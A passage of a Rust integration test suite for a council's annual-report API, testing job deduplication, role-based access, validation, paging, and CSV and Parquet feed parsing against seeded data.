//! The annual report's API side (issue 6), through HTTP and WebSocket, on both databases: asking
//! for a report (deduplicated while queued or running, validated, the Monitoring Officer and
//! Legal Services only), following the job (also live, as the worker changes it behind the API's
//! back), downloading its files with `ETag` and caching headers, reading the typed report, and
//! the Power BI fact feeds (rows equal to independent SQL, stable columns, Parquet that reads
//! back, scoped to the caller's services, recorded).
//!
//! The worker is not needed: jobs and their artifacts are written straight into the database.

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use api::auth::Role;
use api::reports::model::{
    AnnualReport, CaseRow, Check, Edition, Figure, MonthRow, PolicyCheckRow, RestrictionTypeRow,
    ServiceRef, ServiceRestrictionRow, ServiceRow, StageRow, SummaryRow,
};
use chrono::{DateTime, Datelike, NaiveDate, Utc};
use entities::enums::{DeciderRole, ReportEdition, ReportJobStatus};
use entities::{access_read, audit_event, determination, report_artifact, report_job, service};
use futures_util::{SinkExt, StreamExt};
use sea_orm::{
    ActiveModelTrait, ColumnTrait, ConnectionTrait, DatabaseConnection, EntityTrait,
    PaginatorTrait, QueryFilter, QueryOrder, QueryResult, Set, Statement,
};
use serde_json::{Value, json};
use tests::{TestApp, db_tests};
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::client::IntoClientRequest;
use tokio_tungstenite::tungstenite::http::HeaderValue;

/// Every field of a job.
const JOB: &str = "id reportingYear label edition services { id code } status progress attempts \
    maxAttempts error requestedBy createdAt startedAt finishedAt version \
    artifacts { name contentType sizeBytes sha256 url }";

const REQUEST: &str = "mutation($i: RequestAnnualReportInput!) { requestAnnualReport(input: $i) { \
    id reportingYear label edition status progress services { code } } }";

/// The reporting year running today (April to March, the default).
fn current_year() -> i32 {
    let today = Utc::now()
        .with_timezone(&chrono_tz::Europe::London)
        .date_naive();
    if today.month() >= 4 {
        today.year()
    } else {
        today.year() - 1
    }
}

fn codes(body: &Value) -> Vec<String> {
    body["errors"]
        .as_array()
        .map(|errs| {
            errs.iter()
                .map(|e| {
                    e["extensions"]["code"]
                        .as_str()
                        .unwrap_or_default()
                        .to_string()
                })
                .collect()
        })
        .unwrap_or_default()
}

async fn count_sql(db: &DatabaseConnection, sql: &str) -> i64 {
    let row = db
        .query_one_raw(Statement::from_string(db.get_database_backend(), sql))
        .await
        .expect("query")
        .expect("a row");
    row.try_get_by_index(0).expect("a count")
}

async fn rows_sql(db: &DatabaseConnection, sql: &str) -> Vec<QueryResult> {
    db.query_all_raw(Statement::from_string(db.get_database_backend(), sql))
        .await
        .expect("query")
}

/// Services `AAA`, `BBB` and `CCC`; their ids by code.
async fn services(app: &TestApp) -> BTreeMap<String, i64> {
    let mut out = BTreeMap::new();
    for code in ["AAA", "BBB", "CCC"] {
        let s = service::ActiveModel {
            code: Set(code.into()),
            name: Set(format!("Service {code}")),
            active: Set(true),
            version: Set(1),
            created_at: Set(Utc::now()),
            ..Default::default()
        }
        .insert(&app.db)
        .await
        .expect("service");
        out.insert(code.to_string(), s.id);
    }
    out
}

/// A job written behind the API's back.
async fn job(app: &TestApp, year: i32, edition: ReportEdition, status: ReportJobStatus) -> i64 {
    let now = Utc::now();
    report_job::ActiveModel {
        requested_by: Set("user-monitoring_officer".into()),
        reporting_year: Set(year),
        services: Set(None),
        edition: Set(edition),
        status: Set(status),
        progress: Set(if status == ReportJobStatus::Done {
            100
        } else {
            0
        }),
        attempts: Set(0),
        max_attempts: Set(3),
        run_after: Set(now),
        request_key: Set(None),
        version: Set(1),
        created_at: Set(now),
        finished_at: Set((status == ReportJobStatus::Done).then_some(now)),
        ..Default::default()
    }
    .insert(&app.db)
    .await
    .expect("job")
    .id
}

/// An artifact written behind the API's back.
async fn artifact(app: &TestApp, job_id: i64, name: &str, content_type: &str, content: &[u8]) {
    // Any 64 hex digits will do: the API serves what the worker stored.
    let sha256 = format!("{:064x}", content.len() as u64 * 7919 + job_id as u64);
    report_artifact::ActiveModel {
        job_id: Set(job_id),
        name: Set(name.into()),
        content_type: Set(content_type.into()),
        content: Set(content.to_vec()),
        sha256: Set(sha256),
        size_bytes: Set(content.len() as i64),
        version: Set(1),
        created_at: Set(Utc::now()),
        ..Default::default()
    }
    .insert(&app.db)
    .await
    .expect("artifact");
}

async fn set_status(app: &TestApp, id: i64, status: ReportJobStatus, progress: i32) {
    let found = report_job::Entity::find_by_id(id)
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    let version = found.version;
    let mut active: report_job::ActiveModel = found.into();
    active.status = Set(status);
    active.progress = Set(progress);
    active.version = Set(version + 1);
    active.update(&app.db).await.expect("update job");
}

// ---------------------------------------------------------------------------------------------
// WebSocket (graphql-transport-ws)

type Socket =
    tokio_tungstenite::WebSocketStream<tokio_tungstenite::MaybeTlsStream<tokio::net::TcpStream>>;

async fn ws_connect(app: &TestApp, token: &str) -> Socket {
    let mut request = format!("ws://{}/graphql/ws", app.addr)
        .into_client_request()
        .unwrap();
    request.headers_mut().insert(
        "Sec-WebSocket-Protocol",
        HeaderValue::from_static("graphql-transport-ws"),
    );
    let (mut ws, _) = tokio_tungstenite::connect_async(request).await.unwrap();
    let init =
        json!({"type": "connection_init", "payload": {"Authorization": format!("Bearer {token}")}});
    ws.send(Message::text(init.to_string())).await.unwrap();
    let ack = ws_recv(&mut ws).await;
    assert_eq!(ack["type"], "connection_ack", "{ack}");
    ws
}

/// The next protocol message (a guard of 20 s against hanging, not a timing assertion).
async fn ws_recv(ws: &mut Socket) -> Value {
    loop {
        let next = tokio::time::timeout(Duration::from_secs(20), ws.next())
            .await
            .expect("a message within 20 s");
        match next {
            Some(Ok(Message::Text(text))) => return serde_json::from_str(text.as_str()).unwrap(),
            Some(Ok(Message::Close(frame))) => {
                return json!({"type": "close", "frame": format!("{frame:?}")});
            }
            Some(Ok(_)) => continue,
            other => return json!({"type": "ended", "detail": format!("{other:?}")}),
        }
    }
}

// ---------------------------------------------------------------------------------------------
// CSV and Parquet, read back independently of the API's writers

/// RFC 4180: quoted fields may hold commas, doubled quotes and line breaks.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        field.is_empty() && row.is_empty(),
        "the CSV ends with a newline"
    );
    rows
}

/// A Parquet file's column names and rows, each value as the CSV writes it.
fn read_parquet<R: parquet::file::reader::ChunkReader + 'static>(
    bytes: R,
) -> (Vec<String>, Vec<Vec<String>>) {
    use parquet::file::reader::{FileReader, SerializedFileReader};
    use parquet::record::Field;
    let reader = SerializedFileReader::new(bytes).expect("a Parquet file");
    let columns: Vec<String> = reader
        .metadata()
        .file_metadata()
        .schema_descr()
        .columns()
        .iter()
        .map(|c| c.name().to_string())
        .collect();
    let epoch = NaiveDate::from_ymd_opt(1970, 1, 1).unwrap();
    let mut rows = Vec::new();
    for row in reader.get_row_iter(None).expect("rows") {
        let row = row.expect("a row");
        rows.push(
            row.get_column_iter()
                .map(|(_, field)| match field {
                    Field::Null => String::new(),
                    Field::Bool(b) => b.to_string(),
                    Field::Long(n) => n.to_string(),
                    Field::Str(s) => s.clone(),
                    Field::Date(d) => (epoch + chrono::Days::new(*d as u64))
                        .format("%Y-%m-%d")
                        .to_string(),
                    other => panic!("unexpected Parquet value {other:?}"),
                })
                .collect(),
        );
    }
    (columns, rows)
}

// ---------------------------------------------------------------------------------------------
// The feeds' expected rows, from independent SQL

fn day(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

fn london(at: DateTime<Utc>) -> NaiveDate {
    at.with_timezone(&chrono_tz::Europe::London).date_naive()
}

fn opt<T: ToString>(v: Option<T>) -> String {
    v.map(|v| v.to_string()).unwrap_or_default()
}

/// Every decision in `from..=to` with its service code, as the feed's CSV cells (with
/// `customer_name` last), in the feed's order.
async fn expected_decisions(
    db: &DatabaseConnection,
    from: NaiveDate,
    to: NaiveDate,
) -> Vec<Vec<String>> {
    let joins = "JOIN upc_case c ON c.id = x.case_id JOIN service s ON s.id = c.service_id \
                 JOIN customer cu ON cu.id = c.customer_id";
    let within = |d: NaiveDate| d >= from && d <= to;
    // (date, rank, id, cells)
    let mut out: Vec<(NaiveDate, u8, i64, Vec<String>)> = Vec::new();
    let mut push = |d: NaiveDate,
                    rank: u8,
                    kind: &str,
                    id: i64,
                    reference: String,
                    code: String,
                    outcome: String,
                    kinds: String,
                    rec: String,
                    name: String| {
        out.push((
            d,
            rank,
            id,
            vec![
                kind.into(),
                id.to_string(),
                reference,
                code,
                d.to_string(),
                outcome,
                kinds,
                rec,
                name,
            ],
        ));
    };
    for r in rows_sql(db, &format!("SELECT x.id, x.decided_at, x.unreasonable, c.reference, s.code, cu.display_name FROM determination x {joins}")).await {
        let at: DateTime<Utc> = r.try_get_by_index(1).unwrap();
        let unreasonable: bool = r.try_get_by_index(2).unwrap();
        if within(london(at)) {
            push(london(at), 0, "determination", r.try_get_by_index(0).unwrap(), r.try_get_by_index(3).unwrap(), r.try_get_by_index(4).unwrap(),
                 if unreasonable { "unreasonable" } else { "not_unreasonable" }.into(), String::new(), String::new(), r.try_get_by_index(5).unwrap());
        }
    }
    for r in rows_sql(db, &format!("SELECT x.id, x.letter_date, c.reference, s.code, cu.display_name FROM stage_1_warning x {joins}")).await {
        let d: NaiveDate = r.try_get_by_index(1).unwrap();
        if within(d) {
            push(d, 1, "stage_1_warning", r.try_get_by_index(0).unwrap(), r.try_get_by_index(2).unwrap(), r.try_get_by_index(3).unwrap(),
                 "issued".into(), String::new(), String::new(), r.try_get_by_index(4).unwrap());
        }
    }
    for r in rows_sql(db, &format!("SELECT x.id, x.decided_at, x.outcome, c.reference, s.code, cu.display_name FROM appeal x {joins} WHERE x.decided_at IS NOT NULL AND x.outcome <> 'pending'")).await {
        let at: DateTime<Utc> = r.try_get_by_index(1).unwrap();
        if within(london(at)) {
            push(london(at), 2, "appeal_decision", r.try_get_by_index(0).unwrap(), r.try_get_by_index(3).unwrap(), r.try_get_by_index(4).unwrap(),
                 r.try_get_by_index(2).unwrap(), String::new(), String::new(), r.try_get_by_index(5).unwrap());
        }
    }
    let mut kinds: BTreeMap<i64, BTreeSet<String>> = BTreeMap::new();
    for r in rows_sql(
        db,
        "SELECT decision_id, kind FROM restriction WHERE decision_id IS NOT NULL",
    )
    .await
    {
        kinds
            .entry(r.try_get_by_index(0).unwrap())
            .or_default()
            .insert(r.try_get_by_index(1).unwrap());
    }
    for r in rows_sql(db, &format!("SELECT x.id, x.decided_on, x.immediate, c.reference, s.code, cu.display_name FROM stage_2_decision x {joins}")).await {
        let d: NaiveDate = r.try_get_by_index(1).unwrap();
        let id: i64 = r.try_get_by_index(0).unwrap();
        let immediate: bool = r.try_get_by_index(2).unwrap();
        if within(d) {
            let k = kinds.get(&id).map(|k| k.iter().cloned().collect::<Vec<_>>().join(";")).unwrap_or_default();
            push(d, 3, "stage_2_decision", id, r.try_get_by_index(3).unwrap(), r.try_get_by_index(4).unwrap(),
                 if immediate { "immediate" } else { "after_warning" }.into(), k, String::new(), r.try_get_by_index(5).unwrap());
        }
    }
    for r in rows_sql(db, &format!("SELECT x.id, x.endorsed_on, x.endorsed, x.recommendation, c.reference, s.code, cu.display_name FROM review x {joins} WHERE x.endorsed_on IS NOT NULL")).await {
        let d: NaiveDate = r.try_get_by_index(1).unwrap();
        let endorsed: Option<bool> = r.try_get_by_index(2).unwrap();
        let rec: Option<String> = r.try_get_by_index(3).unwrap();
        if within(d) {
            push(d, 4, "review_endorsement", r.try_get_by_index(0).unwrap(), r.try_get_by_index(4).unwrap(), r.try_get_by_index(5).unwrap(),
                 if endorsed == Some(false) { "not_endorsed" } else { "endorsed" }.into(), String::new(), opt(rec), r.try_get_by_index(6).unwrap());
        }
    }
    out.sort_by_key(|a| (a.0, a.1, a.2));
    out.into_iter().map(|(_, _, _, cells)| cells).collect()
}

/// Every restriction in force at some time in `from..=to`, as the feed's CSV cells (with
/// `customer_name` last), in the feed's order.
async fn expected_restrictions(
    db: &DatabaseConnection,
    from: NaiveDate,
    to: NaiveDate,
) -> Vec<Vec<String>> {
    let mut out: Vec<(NaiveDate, i64, Vec<String>)> = Vec::new();
    for r in rows_sql(db, "SELECT r.id, c.reference, s.code, r.kind, r.starts_on, r.ends_on, r.lifted_on, r.status, r.permanent, r.decision_id, cu.display_name \
                           FROM restriction r JOIN upc_case c ON c.id = r.case_id JOIN service s ON s.id = r.service_id JOIN customer cu ON cu.id = c.customer_id").await {
        let id: i64 = r.try_get_by_index(0).unwrap();
        let starts: NaiveDate = r.try_get_by_index(4).unwrap();
        let ends: Option<NaiveDate> = r.try_get_by_index(5).unwrap();
        let lifted: Option<NaiveDate> = r.try_get_by_index(6).unwrap();
        let permanent: bool = r.try_get_by_index(8).unwrap();
        let decision: Option<i64> = r.try_get_by_index(9).unwrap();
        if starts <= to && lifted.is_none_or(|l| l >= from) && ends.is_none_or(|e| e >= from) {
            out.push((starts, id, vec![
                id.to_string(), r.try_get_by_index(1).unwrap(), r.try_get_by_index(2).unwrap(), r.try_get_by_index(3).unwrap(),
                starts.to_string(), opt(ends), opt(lifted), r.try_get_by_index(7).unwrap(), permanent.to_string(), opt(decision),
                r.try_get_by_index(10).unwrap(),
            ]));
        }
    }
    out.sort_by_key(|a| (a.0, a.1));
    out.into_iter().map(|(_, _, cells)| cells).collect()
}

const DECISION_HEADER: &[&str] = &[
    "decision_type",
    "decision_id",
    "case_reference",
    "service_code",
    "decided_on",
    "outcome",
    "restriction_types",
    "review_recommendation",
];
const RESTRICTION_HEADER: &[&str] = &[
    "restriction_id",
    "case_reference",
    "service_code",
    "restriction_type",
    "starts_on",
    "ends_on",
    "lifted_on",
    "status",
    "permanent",
    "decision_id",
];

fn header(base: &[&str], names: bool) -> Vec<String> {
    let mut h: Vec<String> = base.iter().map(|s| s.to_string()).collect();
    if names {
        h.push("customer_name".into());
    }
    h
}

/// `GET path` with a bearer token.
async fn get_as(
    app: &TestApp,
    token: Option<&str>,
    path: &str,
    headers: &[(&str, &str)],
) -> reqwest::Response {
    let mut r = app.client.get(format!("{}{path}", app.base_url));
    if let Some(t) = token {
        r = r.bearer_auth(t);
    }
    for (k, v) in headers {
        r = r.header(*k, *v);
    }
    r.send().await.expect("request sent")
}

async fn error_code(response: reqwest::Response) -> String {
    let body: Value = response.json().await.expect("a JSON error");
    body["errors"][0]["extensions"]["code"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

/// The seeded data set (3 services, 150 cases over five reporting years) and two
/// determinations either side of a reporting year's edge in British Summer Time: 23:30 UTC on
/// 31 March 2024 is 00:30 on 1 April locally (in 2024-25); 23:30 UTC on 31 March 2025 is 00:30
/// on 1 April (in 2025-26). Their ids.
async fn seeded(app: &TestApp) -> (i64, i64) {
    api::seed::seed(&app.db, api::seed::Scale::new(0.005).unwrap(), 9)
        .await
        .expect("seeded");
    let case_id = count_sql(&app.db, "SELECT MIN(id) FROM upc_case").await;
    let mut ids = vec![];
    for at in ["2024-03-31T23:30:00Z", "2025-03-31T23:30:00Z"] {
        let at: DateTime<Utc> = at.parse().unwrap();
        let d = determination::ActiveModel {
            case_id: Set(case_id),
            report_id: Set(None),
            decided_by: Set("user-service_manager".into()),
            decider_role: Set(DeciderRole::ServiceManager),
            unreasonable: Set(true),
            reasons: Set("At the year's edge".into()),
            decided_at: Set(at),
            version: Set(1),
            created_at: Set(at),
            ..Default::default()
        }
        .insert(&app.db)
        .await
        .expect("determination");
        ids.push(d.id);
    }
    (ids[0], ids[1])
}

const YEAR: &str = "from=2024-04-01&to=2025-03-31";

/// A report built from the model's types, as the worker would write it.
fn sample_report(edition: Edition) -> AnnualReport {
    let figure = |count: Option<i64>, previous: Option<i64>| Figure {
        count,
        previous_count: previous,
        count_suppressed: count.is_none(),
        previous_count_suppressed: previous.is_none(),
    };
    let label = "2024-25".to_string();
    AnnualReport {
        format_version: api::reports::model::FORMAT_VERSION,
        edition,
        reporting_year: 2024,
        reporting_year_label: label.clone(),
        previous_year_label: "2023-24".into(),
        period_start: day(2024, 4, 1),
        period_end: day(2025, 3, 31),
        services: vec![ServiceRef {
            id: 1,
            code: "AAA".into(),
            name: "Service AAA".into(),
        }],
        services_subset: true,
        generated_at: "2025-04-02T09:00:00Z".parse().unwrap(),
        narrative: vec![
            "In 2024-25 the council issued 12 Stage 1 warnings, up from 9 in 2023-24.".into(),
        ],
        summary: vec![
            SummaryRow {
                reporting_year: label.clone(),
                metric: "stage_1_warnings".into(),
                figure: figure(Some(12), Some(9)),
            },
            SummaryRow {
                reporting_year: label.clone(),
                metric: "appeals_upheld".into(),
                figure: figure(None, Some(0)),
            },
        ],
        by_service: vec![ServiceRow {
            reporting_year: label.clone(),
            service_code: "AAA".into(),
            service_name: "Service AAA".into(),
            metric: "reports".into(),
            figure: figure(Some(30), Some(25)),
        }],
        by_stage: vec![StageRow {
            reporting_year: label.clone(),
            stage: "stage_1".into(),
            metric: "cases_at_year_end".into(),
            figure: figure(Some(7), None),
        }],
        by_restriction_type: vec![RestrictionTypeRow {
            reporting_year: label.clone(),
            restriction_type: "contact_form".into(),
            metric: "breaches".into(),
            figure: figure(Some(6), Some(5)),
        }],
        service_by_restriction_type: vec![ServiceRestrictionRow {
            reporting_year: label.clone(),
            service_code: "AAA".into(),
            service_name: "Service AAA".into(),
            restriction_type: "termination".into(),
            metric: "restrictions_imposed".into(),
            figure: figure(Some(0), Some(8)),
        }],
        monthly: vec![MonthRow {
            reporting_year: label.clone(),
            month: "2024-04".into(),
            metric: "reports".into(),
            figure: figure(Some(11), Some(10)),
        }],
        policy_checks: vec![PolicyCheckRow {
            reporting_year: label.clone(),
            check: "customer_told".into(),
            outcome: "not_met".into(),
            count: Some(7),
            count_suppressed: false,
        }],
        cases: vec![
            CaseRow {
                reporting_year: label.clone(),
                case_reference: "UPC-2024-0001".into(),
                service_code: "AAA".into(),
                stage_at_year_end: "stage_2_restricted".into(),
                opened_on: day(2024, 5, 2),
                closed_on: None,
                restriction_types: "contact_form;time_limits".into(),
                warning_before_stage_2: Check::Met,
                appeal_rights_given: Check::Met,
                appeal_decided: Check::NotApplicable,
                customer_told: Check::NotMet,
                review_within_period: Check::NotApplicable,
                adjustments_considered: Check::Met,
                policy_followed: false,
                notes: (edition == Edition::Internal)
                    .then(|| "Threats to staff on 3 May".to_string()),
            },
            CaseRow {
                reporting_year: label,
                case_reference: "UPC-2024-0002".into(),
                service_code: "AAA".into(),
                stage_at_year_end: "closed".into(),
                opened_on: day(2024, 6, 1),
                closed_on: Some(day(2025, 1, 9)),
                restriction_types: String::new(),
                warning_before_stage_2: Check::NotApplicable,
                appeal_rights_given: Check::NotApplicable,
                appeal_decided: Check::NotApplicable,
                customer_told: Check::NotApplicable,
                review_within_period: Check::NotApplicable,
                adjustments_considered: Check::NotApplicable,
                policy_followed: true,
                notes: None,
            },
        ],
    }
}

fn check(c: Check) -> &'static str {
    match c {
        Check::Met => "MET",
        Check::NotMet => "NOT_MET",
        Check::NotApplicable => "NOT_APPLICABLE",
    }
}

const REPORT: &str = "report { formatVersion edition reportingYear reportingYearLabel previousYearLabel \
    periodStart periodEnd services { id code name } servicesSubset generatedAt narrative \
    summary { reportingYear metric count previousCount countSuppressed previousCountSuppressed } \
    byService { serviceCode serviceName metric count previousCount } \
    byStage { stage metric count previousCount previousCountSuppressed } \
    byRestrictionType { restrictionType metric count previousCount } \
    serviceByRestrictionType { serviceCode restrictionType metric count previousCount } \
    monthly { month metric count previousCount } \
    policyChecks { reportingYear check outcome count countSuppressed } \
    cases { reportingYear caseReference serviceCode stageAtYearEnd openedOn closedOn restrictionTypes \
            warningBeforeStage2 appealRightsGiven appealDecided customerTold reviewWithinPeriod \
            adjustmentsConsidered policyFollowed notes } }";

db_tests! {
    async fn asking_twice_gives_the_same_job_until_it_is_done(app) {
        let ids = services(&app).await;
        let mo = app.token(Role::MonitoringOfficer, &[]);
        let year = current_year() - 1;
        let ask = |edition: &'static str, services: Option<Vec<String>>| {
            let mut input = json!({"reportingYear": year, "edition": edition});
            if let Some(s) = services {
                input["serviceIds"] = json!(s);
            }
            input
        };
        let first = app.graphql_as(&mo, REQUEST, json!({"i": ask("PUBLIC", None)})).await;
        assert!(first["errors"].is_null(), "{first}");
        let job = &first["data"]["requestAnnualReport"];
        assert_eq!(job["status"], "QUEUED");
        assert_eq!(job["progress"], 0);
        assert_eq!(job["reportingYear"], year);
        assert_eq!(job["label"], format!("{year}-{:02}", (year + 1) % 100));
        assert_eq!(job["services"], Value::Null, "every service");
        let id = job["id"].as_str().unwrap().to_string();
        // Asked again (by Legal Services this time): the same job, no new row, no new event.
        let ls = app.token(Role::LegalServices, &[]);
        let again = app.graphql_as(&ls, REQUEST, json!({"i": ask("PUBLIC", None)})).await;
        assert_eq!(again["data"]["requestAnnualReport"]["id"], json!(id), "{again}");
        assert_eq!(report_job::Entity::find().count(&app.db).await.unwrap(), 1);
        let events = audit_event::Entity::find().filter(audit_event::Column::Action.eq("report_job.request")).all(&app.db).await.unwrap();
        assert_eq!(events.len(), 1);
        assert_eq!(events[0].entity_id.as_deref(), Some(id.as_str()));
        assert_eq!(events[0].actor_sub, "user-monitoring_officer");
        let stored = report_job::Entity::find_by_id(id.parse::<i64>().unwrap()).one(&app.db).await.unwrap().unwrap();
        assert_eq!(stored.request_key.as_deref(), Some(format!("{year}|public|all").as_str()));
        assert_eq!(stored.edition, ReportEdition::Public);
        // Another edition is another report.
        let internal = app.graphql_as(&mo, REQUEST, json!({"i": ask("INTERNAL", None)})).await;
        let internal_id = internal["data"]["requestAnnualReport"]["id"].as_str().unwrap().to_string();
        assert_ne!(internal_id, id);
        // The same services in another order, repeated, are the same request.
        let (a, c) = (ids["AAA"].to_string(), ids["CCC"].to_string());
        let subset = app.graphql_as(&mo, REQUEST, json!({"i": ask("PUBLIC", Some(vec![c.clone(), a.clone()]))})).await;
        let subset_id = subset["data"]["requestAnnualReport"]["id"].as_str().unwrap().to_string();
        assert_eq!(subset["data"]["requestAnnualReport"]["services"], json!([{"code": "AAA"}, {"code": "CCC"}]), "{subset}");
        let same = app.graphql_as(&mo, REQUEST, json!({"i": ask("PUBLIC", Some(vec![a.clone(), c.clone(), a.clone()]))})).await;
        assert_eq!(same["data"]["requestAnnualReport"]["id"], json!(subset_id));
        assert_ne!(subset_id, id);
        // Once running it is still the same; once done, asking again makes a new job.
        set_status(&app, id.parse().unwrap(), ReportJobStatus::Running, 10).await;
        let running = app.graphql_as(&mo, REQUEST, json!({"i": ask("PUBLIC", None)})).await;
        assert_eq!(running["data"]["requestAnnualReport"]["id"], json!(id));
        assert_eq!(running["data"]["requestAnnualReport"]["status"], "RUNNING");
        set_status(&app, id.parse().unwrap(), ReportJobStatus::Done, 100).await;
        let fresh = app.graphql_as(&mo, REQUEST, json!({"i": ask("PUBLIC", None)})).await;
        let fresh_id = fresh["data"]["requestAnnualReport"]["id"].as_str().unwrap().to_string();
        assert_ne!(fresh_id, id, "{fresh}");
        assert_eq!(report_job::Entity::find().count(&app.db).await.unwrap(), 4);
        assert_eq!(
            audit_event::Entity::find().filter(audit_event::Column::Action.eq("report_job.request")).count(&app.db).await.unwrap(),
            4
        );
    }

    async fn simultaneous_requests_make_one_job(app) {
        let mo = app.token(Role::MonitoringOfficer, &[]);
        let ls = app.token(Role::LegalServices, &[]);
        let input = json!({"i": {"reportingYear": current_year() - 2}});
        let (a, b, c) = tokio::join!(
            app.graphql_as(&mo, REQUEST, input.clone()),
            app.graphql_as(&ls, REQUEST, input.clone()),
            app.graphql_as(&mo, REQUEST, input.clone()),
        );
        for body in [&a, &b, &c] {
            assert!(body["errors"].is_null(), "{body}");
        }
        let id = &a["data"]["requestAnnualReport"]["id"];
        assert_eq!(&b["data"]["requestAnnualReport"]["id"], id);
        assert_eq!(&c["data"]["requestAnnualReport"]["id"], id);
        assert_eq!(report_job::Entity::find().count(&app.db).await.unwrap(), 1);
    }

    async fn only_the_monitoring_officer_and_legal_services_ask_and_follow(app) {
        let year = current_year() - 1;
        let done = job(&app, year - 1, ReportEdition::Public, ReportJobStatus::Done).await;
        let queued = job(&app, year - 2, ReportEdition::Public, ReportJobStatus::Queued).await;
        for role in Role::ALL {
            let t = app.token(role, &["AAA"]);
            let before = report_job::Entity::find().count(&app.db).await.unwrap();
            let body = app.graphql_as(&t, REQUEST, json!({"i": {"reportingYear": year}})).await;
            let after = report_job::Entity::find().count(&app.db).await.unwrap();
            let list = app.graphql_as(&t, "{ reportJobs { nodes { id status } } }", json!({})).await;
            let one = |id: i64| format!("{{ reportJob(id: \"{id}\") {{ id status }} }}");
            let done_body = app.graphql_as(&t, &one(done), json!({})).await;
            let queued_body = app.graphql_as(&t, &one(queued), json!({})).await;
            match role {
                Role::MonitoringOfficer | Role::LegalServices => {
                    assert!(body["errors"].is_null(), "{body}");
                    let ids: Vec<&str> = list["data"]["reportJobs"]["nodes"].as_array().unwrap().iter().map(|n| n["id"].as_str().unwrap()).collect();
                    assert!(ids.contains(&queued.to_string().as_str()) && ids.contains(&done.to_string().as_str()), "{list}");
                    assert_eq!(queued_body["data"]["reportJob"]["status"], "QUEUED");
                }
                Role::StandardsCommittee => {
                    assert_eq!(codes(&body), ["FORBIDDEN"], "{body}");
                    assert_eq!(before, after);
                    // The Committee reads finished reports only.
                    let nodes = list["data"]["reportJobs"]["nodes"].as_array().unwrap_or_else(|| panic!("{list}"));
                    assert_eq!(nodes, &vec![json!({"id": done.to_string(), "status": "DONE"})], "{list}");
                    assert_eq!(done_body["data"]["reportJob"]["status"], "DONE");
                    assert_eq!(codes(&queued_body), ["NOT_FOUND"], "{queued_body}");
                }
                _ => {
                    assert_eq!(codes(&body), ["FORBIDDEN"], "{} {body}", role.as_str());
                    assert_eq!(before, after, "{}", role.as_str());
                    assert_eq!(codes(&list), ["FORBIDDEN"], "{list}");
                    assert_eq!(codes(&done_body), ["FORBIDDEN"], "{done_body}");
                }
            }
        }
        // Who asked and why it failed are for the requesters, not the Committee.
        let sc = app.token(Role::StandardsCommittee, &[]);
        let body = app.graphql_as(&sc, &format!("{{ reportJob(id: \"{done}\") {{ id requestedBy error }} }}"), json!({})).await;
        assert_eq!(body["data"]["reportJob"]["id"], json!(done.to_string()));
        assert_eq!(body["data"]["reportJob"]["requestedBy"], Value::Null);
        assert_eq!(codes(&body), ["FORBIDDEN", "FORBIDDEN"], "{body}");
    }

    async fn requests_are_validated_with_the_field_at_fault(app) {
        let ids = services(&app).await;
        let mo = app.token(Role::MonitoringOfficer, &[]);
        let current = current_year();
        let cases = [
            (json!({"reportingYear": 1999}), "input.reportingYear"),
            (json!({"reportingYear": current + 1}), "input.reportingYear"),
            (json!({"reportingYear": current, "serviceIds": ["999999"]}), "input.serviceIds"),
            (json!({"reportingYear": current, "serviceIds": [ids["AAA"].to_string(), "x"]}), "input.serviceIds"),
            (json!({"reportingYear": current, "serviceIds": []}), "input.serviceIds"),
        ];
        for (input, field) in cases {
            let body = app.graphql_as(&mo, REQUEST, json!({"i": input})).await;
            assert_eq!(codes(&body), ["BAD_USER_INPUT"], "{input}: {body}");
            assert_eq!(body["errors"][0]["extensions"]["field"], field, "{body}");
        }
        assert_eq!(report_job::Entity::find().count(&app.db).await.unwrap(), 0);
        // The edges are allowed: 2000 and the year running now.
        for year in [2000, current] {
            let body = app.graphql_as(&mo, REQUEST, json!({"i": {"reportingYear": year}})).await;
            assert!(body["errors"].is_null(), "{body}");
        }
    }

    async fn jobs_page_newest_first_and_filter_by_status(app) {
        let mut made = vec![];
        for (i, status) in [ReportJobStatus::Done, ReportJobStatus::Failed, ReportJobStatus::Queued, ReportJobStatus::Done, ReportJobStatus::Running].into_iter().enumerate() {
            made.push((job(&app, 2010 + i as i32, ReportEdition::Internal, status).await, status));
        }
        let ls = app.token(Role::LegalServices, &[]);
        let doc = "query($after: String, $s: ReportJobStatus) { reportJobs(first: 2, after: $after, status: $s) { nodes { id status } edges { cursor } pageInfo { hasNextPage hasPreviousPage endCursor } } }";
        let mut after: Option<String> = None;
        let mut seen = vec![];
        loop {
            let body = app.graphql_as(&ls, doc, json!({"after": after})).await;
            let page = &body["data"]["reportJobs"];
            assert_eq!(page["pageInfo"]["hasPreviousPage"], json!(after.is_some()), "{body}");
            seen.extend(page["nodes"].as_array().unwrap().iter().map(|n| n["id"].as_str().unwrap().parse::<i64>().unwrap()));
            if page["pageInfo"]["hasNextPage"] != json!(true) {
                break;
            }
            after = Some(page["pageInfo"]["endCursor"].as_str().unwrap().to_string());
        }
        let mut newest_first: Vec<i64> = made.iter().map(|(id, _)| *id).collect();
        newest_first.reverse();
        assert_eq!(seen, newest_first);
        let body = app.graphql_as(&ls, doc, json!({"s": "DONE"})).await;
        let done: Vec<i64> = body["data"]["reportJobs"]["nodes"].as_array().unwrap().iter().map(|n| n["id"].as_str().unwrap().parse().unwrap()).collect();
        let expected: Vec<i64> = made.iter().rev().filter(|(_, s)| *s == ReportJobStatus::Done).map(|(id, _)| *id).collect();
        assert_eq!(done, expected);
        let body = app.graphql_as(&ls, "{ reportJobs(first: 0) { nodes { id } } }", json!({})).await;
        assert_eq!(codes(&body), ["BAD_USER_INPUT"]);
        // A failed job's reason is shown only when safe.
        let failed = made[1].0;
